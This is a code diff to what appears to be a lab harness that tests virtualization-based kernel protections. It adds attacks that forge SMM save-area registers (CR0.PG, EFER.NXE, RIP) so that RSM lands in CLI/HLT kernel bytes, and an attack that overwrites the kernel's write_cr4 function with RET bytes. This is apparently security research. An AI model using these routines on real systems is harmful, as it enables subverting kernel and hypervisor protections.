@@ -8,11 +8,11 @@ from functools import partial
 from vtlab.client.driver import Driver
 from vtlab.client.machine import Machine
 from vtlab.client.symbols import Symbols
-from vtlab.x86.registers import Cr0, Cr4, Msr
+from vtlab.x86.registers import Cr0, Cr4, Efer, Msr
 from vtlab_attacks.control_registers import HEKI, clear_bit
 from vtlab_attacks.evidence import Attack, Attempts, Evidence, observe
-from vtlab_attacks.smm import CR0, POKE, SAVE_AREA, SEAN_SMM, SMRAM, forge, run_smi
-from vtlab_attacks.state import DRIVER_WINDOW, msr, register
+from vtlab_attacks.smm import CR0, EFER, POKE, POKES, RIP, SAVE_AREA, SEAN_SMM, SMRAM, run_smi
+from vtlab_attacks.state import DRIVER_WINDOW, direct, memory, msr, register, show_bytes
 
 SDM = "Intel SDM volume 3, CR0 (CD, NE)"
 LOCK_REGS = "LVBS LOCK_REGS"
@@ -22,6 +22,8 @@ SELECTORS = 0x001B_0008
 # A segment of AMD64's save area: selector u16, attributes u16 without a gap, limit u32, base u64.
 LDTR, TR = 0x70, 0x90
 LIMIT, BASE = 4, 8
+RETURN = b"\xc3" * 4
+CLI_HLT = bytes.fromhex("faf4")
 
 
 def set_bit(number: int, bit: Cr0 | Cr4, symbol: str) -> partial[Evidence]:
@@ -89,18 +91,68 @@ def forge_ldtr(machine: Machine, _driver: Driver, symbols: Symbols) -> Evidence:
     )
 
 
+def overwrite_writer(machine: Machine, driver: Driver, symbols: Symbols) -> Evidence:
+    """Through the direct map; nobody executes it here."""
+    target = symbols.physical("write_cr4")
+
+    def steps(attempts: Attempts) -> None:
+        attempts.step(driver.write_bytes, direct(target), RETURN)
+
+    return observe(
+        "code of write_cr4",
+        lambda: memory(machine, target, len(RETURN)),
+        steps,
+        symbols,
+        lambda _, after: after == RETURN,
+        show_bytes,
+    )
+
+
+def forge_and_stop(name: str, field: int, bit: Cr0 | Efer) -> partial[Evidence]:
+    """One SMI forges a register and RIP: without paging, or with NX reserved, no stack and no handler is left, so RSM
+    goes to code that needs neither.
+
+    It is CLI and HLT in kernel text: bytes that mean the same in each mode, where VTL0 may execute in each.
+    """
+    return partial(_forge_and_stop, name, field, bit)
+
+
+def _forge_and_stop(
+    name: str, field: int, bit: Cr0 | Efer, machine: Machine, driver: Driver, symbols: Symbols
+) -> Evidence:
+    text = symbols.sections[".text"]
+    at = text.data.index(CLI_HLT)
+    stop = at + (text.physical if bit == Cr0.PG else text.address)
+    pairs = [
+        (field, register(machine, name) & ~bit & 0xFFFF_FFFF),
+        (RIP, stop & 0xFFFF_FFFF),
+        (RIP + 4, stop >> 32),
+    ]
+    listed = b"".join(struct.pack("<II", SMRAM + SAVE_AREA + offset, value) for offset, value in pairs)
+    driver.write_bytes(symbols["driver_mailbox"], listed)
+
+    def stopped() -> bool:
+        return register(machine, "rip") in range(stop, stop + len(CLI_HLT) + 1)
+
+    def steps(attempts: Attempts) -> None:
+        run_smi(machine, attempts, POKES, len(pairs), symbols.physical("driver_mailbox"), stopped)
+
+    return observe(
+        f"{name.upper()}.{bit.name}",
+        lambda: int(bool(register(machine, name) & bit)),
+        steps,
+        symbols,
+        lambda _, after: not after,
+    )
+
+
 TRANSITION_ATTACKS = [
     Attack(
         "cr0-ne", "Clears CR0.NE: faults of the FPU arrive as an interrupt of the PIC", SDM, clear_bit("cr0", Cr0.NE)
     ),
     Attack("cr0-cache-disabled", "Sets CR0.CD", SDM, set_bit(0, Cr0.CD, "gadget_mov_cr0")),
-    Attack(
-        "rsm-paging-off",
-        "RSM loads CR0 without PG",
-        SEAN_SMM,
-        forge("CR0.PG", CR0, "cr0", Cr0.PG),
-        impossible_unprotected="nothing is at the physical address of the next instruction: a triple fault follows",
-    ),
+    Attack("rsm-paging-off", "RSM loads CR0 without PG", SEAN_SMM, forge_and_stop("cr0", CR0, Cr0.PG)),
+    Attack("rsm-nxe-off", "RSM loads EFER without NXE", SEAN_SMM, forge_and_stop("efer", EFER, Efer.NXE)),
     Attack("rsm-forged-tr", "RSM moves the TSS to attacker memory", SEAN_SMM, forge_tr),
     Attack("rsm-forged-ldtr", "RSM loads an LDT in user memory", SEAN_SMM, forge_ldtr),
     Attack(
@@ -108,6 +160,12 @@ TRANSITION_ATTACKS = [
         "Sets CR4.TSD, which nobody pins, by the kernel's own function that writes CR4",
         HEKI,
         set_bit(4, Cr4.TSD, "write_cr4"),
+    ),
+    Attack(
+        "text-cr-writers",
+        "Overwrites the kernel's function that writes CR4: gone for VTL0, it is code again before VTL1's next start",
+        HEKI,
+        overwrite_writer,
     ),
     # Other selectors would end the guest at its next interrupt, before or after it answers; so the 32-bit target it is.
     Attack(
